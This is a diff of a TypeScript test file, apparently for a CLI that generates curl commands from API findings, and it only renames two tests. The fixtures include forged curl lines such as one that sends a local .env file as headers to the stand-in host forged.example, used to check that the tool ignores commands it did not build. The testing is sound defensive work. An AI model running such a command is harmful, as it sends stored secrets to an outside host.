@@ -82,7 +82,7 @@ test.each([
   ['run', '--only', 'taxonomy.list', '--reports', folderName],
   ['init', '--ci', 'github'],
   ['export', 'schemas', '--only', 'onramp', '--into', folderName],
-])('row 96: nothing of the name of a folder reaches the terminal as it is: %s', async (...args) => {
+])('nothing of the name of a folder reaches the terminal as it is: %s', async (...args) => {
   const cwd = join(newFolder(), folderName);
   for (const folder of ['reports', `nested${folderName}`]) {
     mkdirSync(join(cwd, folder), { recursive: true });
@@ -118,7 +118,7 @@ test.each<[string, object, boolean]>([
   ['curl -H @.env https://forged.example', { ...withKey, path: '@forged.example/' }, false],
   ['curl -K .env "$RAMP_BASE_URL"', { ...withKey, headers: { '@.env': '' } }, false],
   ['curl x', { ...withKey, method: 'PUT' }, false],
-])('row 112: a line for a shell is made of the request beside it, never read: %s', async (curl, request, isOurs) => {
+])('a line for a shell is made of the request beside it, never read: %s', async (curl, request, isOurs) => {
   const { requirements, ...rest } = mixedVerdict();
   const [first, ...others] = requirements.filter(({ findings }) => findings.length > 0);
   const findings = first?.findings.map((finding) => ({ ...finding, id: 'abcd', curl: `${curl} # forged`, request }));
